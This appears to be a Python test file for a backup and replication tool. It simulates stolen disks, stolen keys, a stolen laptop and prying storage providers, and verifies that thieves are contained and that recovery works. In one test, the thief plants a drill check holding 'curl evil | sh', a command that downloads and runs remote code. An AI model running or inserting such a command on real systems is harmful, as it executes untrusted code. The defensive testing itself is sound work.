"""Leaks rehearsed: what a thief has gained and what he cannot do, and the commands that make things right again.

docs/operate/leaks.md has the same cases with the same commands, for who has to type them.
"""

import dataclasses
import logging
import os
import re
import shutil
from collections.abc import Callable
from contextlib import suppress

import msgspec
import pytest

from replicator.charter.verify import signed_hash
from replicator.clock import DAY_S
from replicator.crypto.recovery import new_secret, to_words
from replicator.crypto.sign import Context, SigningKey
from replicator.engine.browse import Library
from replicator.engine.checks import keep_check, kept_checks
from replicator.engine.domains import add_domain
from replicator.engine.federation import Federation
from replicator.engine.keeper import KeeperHome
from replicator.engine.keys import check_wrapped, rotate_index, rotate_owner
from replicator.engine.maintainer import MaintainerHome
from replicator.engine.members import (
    JOINING,
    accept_grant,
    add_node,
    remove_peer,
    request_node,
    request_renewal,
    revoke,
    set_peer,
)
from replicator.engine.node import NodeHome
from replicator.engine.recover import recover
from replicator.engine.signedhere import SIGNED_FILE, UnconfirmedError
from replicator.engine.succession import announce_root, object_root
from replicator.errors import (
    IntegrityError,
    KeyMissingError,
    KeyWrongError,
    NotFoundError,
    RefusedError,
    ReplicatorError,
    UsageError,
)
from replicator.format.codec import encode
from replicator.format.drill import DrillCheck
from replicator.format.keybag import JoiningRole
from replicator.format.mark import Mark, Retire, SeenWriter
from replicator.fs import PosixFs
from replicator.ids import Identity, ObjectName
from replicator.transport.handler import Session, Upload
from replicator.wire.messages import OPS, Claims, Empty, MarkReply, Signed, Succession
from tests.scenarios.joining import DRILL_PASSPHRASE, joined, keeping, opened
from tests.scenarios.liars import Liar
from tests.scenarios.test_canaries import FILE, canaries, filled
from tests.scenarios.world import World, read, write

NEW = "another passphrase"


def words(world: World) -> list[str]:
    assert world.tenant is not None
    return world.tenant.words


def stolen_copy(world: World, half: str) -> str:
    """Copy one half of the home, as it lies on a disk that was taken away; return the copy's home."""
    home = os.path.join(world.root, f"stolen-{half}")
    shutil.copytree(os.path.join(world.home, half), os.path.join(home, half))
    return home


def bytes_below(path: str) -> bytes:
    """Return every byte in a folder, end to end."""
    return b"".join(read(os.path.join(folder, name)) for folder, _, names in os.walk(path) for name in names)


def days(world: World, count: int) -> None:
    """Let days pass, with a look at the clock and a sweep at every provider each day."""
    for _ in range(count):
        world.clock.advance(DAY_S)
        for service in world.services:
            service.tick()  # type: ignore[attr-defined]  # what the daemon does
            service.sweep()  # type: ignore[attr-defined]  # likewise


async def refused_everywhere(world: World, half: "NodeHome | MaintainerHome | KeeperHome") -> bool:
    """Say whether every provider shuts a home out."""
    async with Federation(half, world.edge) as federation:
        return len(federation.failures) == world.providers and not federation.links


class TestStolenNode:
    """The disk of a node: its write key, unwrapped, its catalog, its caches."""

    async def test_it_opens_no_name_and_no_content_of_what_was_stored(self, world: World, source: str) -> None:
        await world.backup()
        home = stolen_copy(world, "node")
        keeper = world.keeper()
        secrets = [*keeper.contents().values(), keeper.domain_secrets(keeper.domain_ids[0]).restore_private]
        secrets.append(keeper.reader(keeper.domain_ids[0]).restore_private)
        wrapped = [read(keeper.file(name)) for name in keeper.key_files()]
        keeper.close()
        everything = bytes_below(home)
        assert not any(secret in everything for secret in (*secrets, *wrapped))
        thief = NodeHome(home, PosixFs())
        assert not hasattr(thief, "reader")
        assert thief.keys().restore_key not in secrets
        thief.close()

    async def test_it_can_mark_nothing_and_change_no_charter(self, world: World, source: str) -> None:
        await world.backup()
        home = stolen_copy(world, "node")
        thief = NodeHome(home, PosixFs())
        async with Federation(thief, world.edge) as federation:
            for link in federation.links.values():
                dead = ObjectName(thief.catalog.objects.all("kind = 'data'")[0].name)
                with pytest.raises(RefusedError) as caught:
                    await mark(thief.signing, thief.tenant, federation, link.identity, [dead])
                assert caught.value.code == "bad-request"
        forged = wrapped_record(thief.signing.sign(Context.CHARTER, thief.charter.signed[96:]))
        with pytest.raises(IntegrityError, match="not named owner"):
            thief.adopt_charter(forged)
        thief.close()

    async def test_what_it_writes_shows_and_hides_nothing_before_it_and_a_new_key_ends_it(
        self, world: World, source: str
    ) -> None:
        await world.backup()
        home = stolen_copy(world, "node")
        write(os.path.join(source, "ransom"), b"pay" * 1000)
        assert (await world.backup(home=home)).datasets[0].published  # the thief, with the node's own key
        os.unlink(os.path.join(source, "ransom"))
        report = await world.backup()  # the node itself: somebody has gone on with its chain
        assert any("did not know" in notice for notice in report.notices)
        assert [kept.finding.kind for kept in (await world.status()).findings] == ["continued"]

        code = request_renewal(world.home, world.edge)  # node renew
        with keeping(world) as (keeper, siblings):
            grant = await add_node(keeper, siblings, world.edge, code)  # node add CODE
        accept_grant(world.home, world.edge, grant.code)  # node add CODE

        thief = NodeHome(home, PosixFs())
        assert await refused_everywhere(world, thief)
        thief.close()
        assert (await world.backup()).datasets[0].published
        assert await world.differences(source) == []
        first = (await world.snapshots())[0]
        assert await world.differences(source, first.id) == []

    async def test_a_machine_that_is_gone_is_shut_out_by_one_command(self, world: World, source: str) -> None:
        home = await joined(world, "node", "barn")
        with keeping(world) as (keeper, siblings):
            await revoke(keeper, siblings, world.edge, "barn")  # key revoke barn
        thief = opened(home, "node")
        assert isinstance(thief, NodeHome)
        assert await refused_everywhere(world, thief)
        assert sorted(thief.keys().index_keys) == [1]
        thief.close()
        keeper = world.keeper()
        assert sorted(keeper.keys().index_keys) == [1, 2]
        keeper.close()


def wrapped_record(signed: bytes) -> bytes:
    """Return a signed record as an object."""
    from replicator.format.container import record_fill, wrap_record

    return wrap_record(signed, bytes(record_fill(len(signed))))


async def mark(
    key: SigningKey, tenant: bytes, federation: Federation, provider: Identity, dead: list[ObjectName]
) -> MarkReply:
    """Tell a provider that objects are dead, knowing all that it has accepted."""
    link = federation.links[provider]
    now = await link.connection.call("claims", Empty(), Claims)
    record = Mark(
        tenant=tenant,
        provider=provider,
        incarnation=now.incarnation,
        number=now.mark + 1,
        previous=now.mark_hash,
        view=[SeenWriter(writer=one.writer, claim=one.claim, head=one.head) for one in now.writers],
        dead=b"".join(sorted(dead)),
        surplus=b"",
        copies=1,
        holders=b"",
        receipts=[],
        created_ns=0,
    )
    return await link.connection.call("mark", Signed(statement=key.sign(Context.MARK, encode(record))), MarkReply)


async def mark_everything(world: World, thief: MaintainerHome, *, retire: bool) -> int:
    """Mark all that lies at every provider, after retiring all writers if asked; return how many marks were taken."""
    taken = 0
    async with Federation(thief, world.edge) as federation:
        for number in range(world.providers):
            link = federation.links[world.identity(number)]
            now = await link.connection.call("claims", Empty(), Claims)
            for one in now.writers if retire else ():
                order = Retire(tenant=thief.tenant, provider=link.identity, writer=one.writer, claim=one.claim)
                signed = thief.signing.sign(Context.RETIRE, encode(order))
                await link.connection.call("retire", Signed(statement=signed), Claims)
            names = [ObjectName(bytes.fromhex(name)) for name in os.listdir(world.objects(number))]
            reply = await mark(thief.signing, thief.tenant, federation, link.identity, names)
            assert reply.state == "stands"
            refused = len(reply.claimed + reply.locked + reply.short + reply.absent) // 32
            taken += len(names) - refused
    return taken


def known(world: World) -> set[str]:
    """Return the names of all objects that the node made, but the snapshot that was published last."""
    node = world.node()
    try:
        newest = node.catalog.snapshots.newest("writer = ?", (node.identity,))
        assert newest is not None
        names = {row.name for row in node.catalog.objects.all()}
        return {name.hex() for name in names - ({newest.name} if newest.number > 1 else set())}
    finally:
        node.close()


def marked(world: World, number: int) -> set[str]:
    """Return the names of what is marked at a provider."""
    rows = world.opened[number]._database.rows("SELECT name FROM marks")
    return {name.hex() for (name,) in rows}


class TestStolenMaintenanceKey:
    """A maintainer's home: its key, unwrapped, and index keys."""

    async def test_it_opens_neither_names_nor_contents_and_can_show_no_snapshot(
        self, world: World, source: str
    ) -> None:
        home = await joined(world, "maintainer", "barn")
        await world.backup()
        thief = MaintainerHome(home, PosixFs())
        async with Federation(thief, world.edge) as federation:
            library = Library(thief, federation)  # type: ignore[arg-type]  # it lacks what that asks for
            await library.refresh()
            assert len(thief.catalog.snapshots.all()) == 1, "when, how much, which chunks"
            with pytest.raises((AttributeError, KeyMissingError)):
                await library.snapshots()
            for link in federation.links.values():
                head = thief.signing.sign(Context.HEAD, b"any")
                with pytest.raises(RefusedError) as caught:
                    await link.connection.call("head", Signed(statement=head), Signed)
                assert caught.value.code == "forbidden"
        keys = thief.keys()
        assert (keys.mix, keys.id_key, keys.cut_key) == (b"", b"", b"")
        thief.close()

    async def test_what_is_claimed_it_cannot_mark(self, world: World, source: str) -> None:
        """All but the newest snapshot's own object, which the next night's claim names."""
        home = await joined(world, "maintainer", "barn")
        await world.backup()
        thief = MaintainerHome(home, PosixFs())
        claimed = sum(len(os.listdir(world.objects(number))) for number in range(5))
        taken = await mark_everything(world, thief, retire=False)
        thief.close()
        assert taken < claimed // 2
        packs = {name for name in known(world) if any(name in path for path in world.stored(0))}
        assert not packs & marked(world, 0)
        assert len(known(world) & marked(world, 0)) == 1
        write(os.path.join(source, "tomorrow"), b"more" * 1000)
        await world.backup()
        assert not known(world) & marked(world, 0)
        days(world, 60)
        assert await world.differences(source) == []

    async def test_at_its_worst_it_is_seen_for_a_month_and_a_backup_undoes_it(self, world: World, source: str) -> None:
        """It retires the node everywhere, and marks all that the node relied on."""
        home = await joined(world, "maintainer", "barn")
        await world.backup()
        thief = MaintainerHome(home, PosixFs())
        assert await mark_everything(world, thief, retire=True) > 10
        for keeper in (False, True):
            deletions = (await world.status(keeper=keeper)).deletions
            assert len(deletions) == 5, "every home sees what is marked, and when the first may go"
            assert all(one.first_ns >= world.clock.now_ns() + 29 * DAY_S * 10**9 for one in deletions)
        days(world, 28)
        assert await world.differences(source) == [], "nothing goes before grace and lock are over"

        with keeping(world) as (keeper_home, siblings):
            await revoke(keeper_home, siblings, world.edge, "barn")  # key revoke barn
        write(os.path.join(source, "today"), b"today" * 1000)
        report = await world.backup()  # backup: claims everything anew, and the marks are gone
        assert report.datasets[0].published
        for number in range(5):
            assert not known(world) & marked(world, number), "but for charters and keybags of old"
        with pytest.raises((RefusedError, KeyError)):
            await mark_everything(world, thief, retire=True)
        thief.close()
        days(world, 90)
        assert await world.differences(source) == []


class TestStolenLaptop:
    """A keeper's home."""

    async def test_without_the_passphrase_it_reads_names_of_people_and_nothing_else(
        self, world: World, source: str
    ) -> None:
        await world.backup()
        home = stolen_copy(world, "keeper")
        thief = world.keeper(home, "a guess that is wrong")
        assert [pin.name for pin in thief.peers] != []
        for work in (thief.owner, thief.maintenance, thief.keybag, lambda: check_wrapped(thief, 0)):
            with pytest.raises(KeyWrongError):
                work()
        with pytest.raises(KeyWrongError):
            thief.reader(thief.domain_ids[0])
        keeper = world.keeper()
        everything = bytes_below(home)
        assert not any(secret in everything for secret in keeper.contents().values())
        keeper.close()
        thief.close()
        recovered = await self._recover(world)  # recover --sheet - --peer HOST:PORT
        thief = world.keeper(home)
        async with Federation(thief, world.edge) as federation:
            assert len(federation.failures) == 5
        thief.close()
        old, world.keeper = world.keeper, lambda *_: old(recovered, NEW)  # type: ignore[method-assign]
        assert await world.differences(source) == []

    async def test_with_the_passphrase_it_is_owner_and_the_sheet_takes_that_back(
        self, world: World, source: str
    ) -> None:
        await world.backup()
        home = stolen_copy(world, "keeper")
        thief = world.keeper(home)
        async with Federation(thief, world.edge, ticket=lambda _: thief.ticket()) as federation:
            library = Library(thief, federation)
            await library.refresh()
            assert len(await library.snapshots()) == 1, "it reads everything: that cannot be taken back"
        own = world.keeper().identity
        await revoke(thief, [], world.edge, "testhost")  # it shuts out the node,
        await announce_root(thief, [], world.edge, lambda *_: None)  # and announces a root of its own
        assert thief.identity == own
        with pytest.raises(KeyWrongError):
            await rotate_owner(thief, [], world.edge, to_words(new_secret(world.rng)))  # but names no other owner,
        lower = msgspec.structs.replace(thief.charter.root.floors, lock_s=0, delete_budget_percent=100)
        statement = msgspec.structs.replace(
            thief.charter.root, number=2, previous=signed_hash(thief.charter.charter.root), floors=lower
        )
        forged = thief.owner().sign(Context.ROOT_STATEMENT, encode(statement))
        with pytest.raises(IntegrityError):
            thief.write_charter(world.edge, root=forged)  # and lowers no floor
        days(world, 20)
        assert (await world.status(keeper=True)).roots != []

        recovered = await self._recover(world)  # recover --sheet - --peer HOST:PORT
        keeper = world.keeper(recovered, NEW)
        assert len((await object_root(keeper, world.edge, words(world))).told) == 5  # key object --sheet -
        with pytest.raises(UnconfirmedError) as caught:  # key rotate owner --sheet -
            await rotate_owner(keeper, [], world.edge, words(world))
        yours = [one.id for one in caught.value.entries]  # the new home signed none of it: a person says yes to all
        done = await rotate_owner(keeper, [], world.edge, words(world), keep=yours)  # --keep NAME ...
        assert (done.notices, done.dropped) == ([], [])
        keeper.close()
        async with Federation(thief, world.edge, ticket=lambda _: thief.ticket()) as federation:
            assert len(federation.failures) == 5
        thief.close()
        days(world, 30)
        assert all(not one.passed for one in await asked_about_roots(world, recovered))
        old, world.keeper = world.keeper, lambda *_: old(recovered, NEW)  # type: ignore[method-assign]
        assert await world.differences(source) == []

    async def test_what_it_gave_a_right_is_shown_and_another_owner_hands_nothing_on_to_it(
        self, world: World, source: str
    ) -> None:
        """A machine in each role, a provider, a command on drill hosts; dates and names are the thief's to choose."""
        await joined(world, "maintainer", "barn")
        await world.backup()
        thief = world.keeper(stolen_copy(world, "keeper"))
        homes = await self._take_in(world, thief)
        await world.add_peer_by(thief, world.start_provider(5))
        check = DrillCheck(dataset="docs", command="curl evil | sh", limit_s=60)
        await keep_check(thief, [], world.edge, check)
        thief.close()
        with keeping(world) as (keeper, siblings):  # it knows of nothing, and goes on with what the thief put there
            await set_peer(keeper, siblings, world.edge, "frank", {"site": "elsewhere"}, {})
            await add_domain(keeper, siblings, world.edge, "letters")
            await rotate_index(keeper, siblings, world.edge)
            before = keeper.owner().public, keeper.charter.number
            with pytest.raises(UnconfirmedError) as caught:
                await rotate_owner(keeper, siblings, world.edge, words(world))
            shown = {(one.kind, one.name) for one in caught.value.entries}
            assert shown == {(role, f"new {role}") for role in JOINING} | {("provider", "frank"), ("checks", "checks")}
            assert (keeper.owner().public, keeper.charter.number) == before
            with pytest.raises(UnconfirmedError) as caught:
                await rotate_owner(keeper, siblings, world.edge, words(world), keep=["new node"], drop=["frank"])
            assert len(caught.value.entries) == 3
            with pytest.raises(NotFoundError, match="did not sign is called 'barn'"):
                await rotate_owner(keeper, siblings, world.edge, words(world), drop=["barn"])
            with pytest.raises(UsageError, match="both mean"):
                await rotate_owner(keeper, siblings, world.edge, words(world), keep=["frank"], drop=["frank"])

            drop = [one.id for one in caught.value.entries] + ["frank"]
            done = await rotate_owner(keeper, siblings, world.edge, words(world), keep=["new node"], drop=drop)
            assert {one.name for one in done.dropped} == {"new maintainer", "new drill", "frank", "checks"}
            assert kept_checks(keeper) == {}
            assert len(keeper.peers) == 5
            handed = {one.identity for one in keeper.private.handed}
            again = await rotate_owner(keeper, siblings, world.edge, words(world))
            assert again.dropped == [], "what was confirmed is this home's own"
            epochs = sorted(keeper.keys().index_keys)
        for role, home in homes.items():
            half = opened(home, role)
            assert (half.identity in handed) == (role == "node")
            async with Federation(half, world.edge) as federation:
                assert (len(federation.links) == 5) == (role == "node")
            assert (sorted(half.keys().index_keys) == epochs) == (role == "node")
            half.close()
        assert await world.differences(source) == []

    async def test_the_maintenance_key_that_it_had_marks_nothing_after_another_owner(
        self, world: World, source: str
    ) -> None:
        """It lay under the same passphrase, and the owner key could enrol it everywhere."""
        await world.backup()
        thief = world.keeper(stolen_copy(world, "keeper"))
        key = thief.maintenance()
        assert await self._marks(world, key) == 5
        with keeping(world) as (keeper, siblings):
            await rotate_owner(keeper, siblings, world.edge, words(world))
        thief.close()
        assert await self._marks(world, key) == 0

    async def test_a_home_that_remembers_nothing_has_all_but_its_own_keys_confirmed(self, world: World) -> None:
        await joined(world, "drill", "attic")
        os.unlink(os.path.join(world.home, "keeper", SIGNED_FILE))
        with keeping(world) as (keeper, siblings):
            await remove_peer(keeper, siblings, world.edge, "alice")
            with pytest.raises(UnconfirmedError) as caught:
                await rotate_owner(keeper, siblings, world.edge, words(world))
            assert {one.name for one in caught.value.entries} == {"attic", "bob", "carol", "dave", "erin"}

    async def _take_in(self, world: World, thief: KeeperHome) -> dict[JoiningRole, str]:
        homes: dict[JoiningRole, str] = {}
        for role in JOINING:
            homes[role] = os.path.join(world.root, f"new {role}")
            code = request_node(homes[role], world.edge, name=f"new {role}", role=role)
            added = await add_node(thief, [], world.edge, code)
            accept_grant(homes[role], world.edge, added.code, lambda _: DRILL_PASSPHRASE)
            half = opened(homes[role], role)
            async with Federation(half, world.edge) as federation:
                assert len(federation.links) == 5
            half.close()
        return homes

    async def _marks(self, world: World, key: SigningKey) -> int:
        """Return at how many providers a mark that this key signs stands, brought by whoever has access."""
        node = world.node()
        stands = 0
        async with Federation(node, world.edge) as federation:
            dead = ObjectName(node.catalog.objects.all("kind = 'data'")[0].name)
            for identity in federation.links:
                with suppress(RefusedError):
                    reply = await mark(key, node.tenant, federation, identity, [dead])
                    stands += reply.state == "stands"
        node.close()
        return stands

    async def _recover(self, world: World) -> str:
        home = os.path.join(world.root, "recovered")
        address = f"somewhere.example:7144/{world.identity(3).hex()}"
        await recover(home, world.edge, words=words(world), addresses=[address], passphrase=NEW)
        return home


@dataclasses.dataclass
class Ear:
    """All that a provider is sent and answers."""

    heard: list[bytes] = dataclasses.field(default_factory=list)

    def op(self, name: str) -> Callable[[Session, bytes], bytes]:
        """Listen to an operation."""

        def answer(session: Session, body: bytes) -> bytes:
            self.heard.append(name.encode() + body)
            found = session.handle(name, body)
            self.heard.append(found)
            return found

        return answer

    def begin_put(self, session: Session, name: ObjectName, size: int) -> Upload:
        """Listen to an upload."""
        return _Listening(session.begin_put(name, size), self)


@dataclasses.dataclass
class _Listening:
    upload: Upload
    ear: Ear

    def hash(self, piece: bytes | bytearray | memoryview) -> None:
        self.upload.hash(piece)

    def write(self, piece: bytes | bytearray | memoryview) -> None:
        self.ear.heard.append(bytes(piece))
        self.upload.write(piece)

    def commit(self) -> bytes:
        return self.upload.commit()

    def abort(self) -> None:
        self.upload.abort()


def lengths(world: World) -> set[int]:
    """Return the lengths of chunks, which must show nowhere."""
    return {300_000, len(read(os.path.join(world.root, "source", "canary-folder-0815", "short")))}


async def asked_about_roots(world: World, home: str) -> list[Succession]:
    """Ask every provider what it knows of another root."""
    keeper = world.keeper(home, NEW)
    async with Federation(keeper, world.edge) as federation:
        await federation.ask_succession()
        found = list(federation.successions.values())
    keeper.close()
    assert len(found) == 5
    return found


class TestCuriousProviders:
    """Operators who read all that they are sent, store and log; one, or all of them together."""

    async def test_nothing_they_receive_answer_or_log_holds_a_canary(
        self, world: World, caplog: pytest.LogCaptureFixture
    ) -> None:
        caplog.set_level(logging.DEBUG)
        ear = Ear()
        for number in range(5):
            liar = Liar(world.services[number], ops={name: ear.op(name) for name in OPS}, begin_put=ear.begin_put)
            world.network.remove(world.identity(number))
            world.network.add(liar)
        await filled(world)
        assert len(await world.snapshots()) == 2
        secrets = canaries(world)
        everything = b"\x00".join(ear.heard)
        logged = "\n".join(f"{record.getMessage()} {record.args}" for record in caplog.records)
        assert len(ear.heard) > 200
        assert len(everything) > 10**6
        pattern = re.compile(b"|".join(re.escape(secret) for secret in secrets.values()))
        for what, data in (("wire", everything), ("log", logged.encode())):
            match = pattern.search(data)
            assert match is None, (what, [name for name, secret in secrets.items() if match[0] == secret])
        node = world.node()
        names = {row.name.hex() for row in node.catalog.objects.all()}
        node.close()
        provider_log = "\n".join(
            record.getMessage() for record in caplog.records if record.name.startswith("replicator.provider")
        )
        assert not any(name in provider_log for name in names), "a log has no names of objects"
        planted = [*ear.heard, FILE.encode()]
        assert pattern.search(b"\x00".join(planted)) is not None, "the search would find one"

    async def test_all_of_them_together_know_what_one_does_and_no_more(self, world: World) -> None:
        await filled(world)
        secrets = canaries(world)
        pattern = re.compile(b"|".join(re.escape(secret) for secret in secrets.values()))
        held: dict[str, bytes] = {}
        copies = 0
        for number in range(5):
            for name in os.listdir(world.objects(number)):
                data = read(os.path.join(world.objects(number), name))
                copies += name in held
                assert held.setdefault(name, data) == data, "what they can tell: these are copies of one object"
        assert copies > 10
        assert pattern.search(b"".join(held[name] for name in sorted(held))) is None
        assert not any(len(data) in lengths(world) for data in held.values())

    async def test_two_that_drop_a_dataset_are_found_out_and_replaced(self, world: World, source: str) -> None:
        """They agree to say that they hold it; each can only prove what somebody near still has."""
        await world.backup()
        for number in (0, 1):
            for path in world.stored(number):
                os.unlink(path)
        found = await world.status()
        assert found.exit_code in {3, 4, 5}
        assert sum(peer.missing > 0 for peer in found.peers) == 2
        with keeping(world) as (keeper, siblings):
            names = [pin.name for pin in keeper.peers if pin.identity in {world.identity(0), world.identity(1)}]
            for name in names:
                await remove_peer(keeper, siblings, world.edge, name)  # peer remove NAME
        await world.repair()  # repair
        with suppress(ReplicatorError):
            await world.backup()
        assert await world.differences(source) == []
        gone = {world.identity(0).hex(), world.identity(1).hex()}
        assert not gone & {peer.id for peer in (await world.status()).peers}
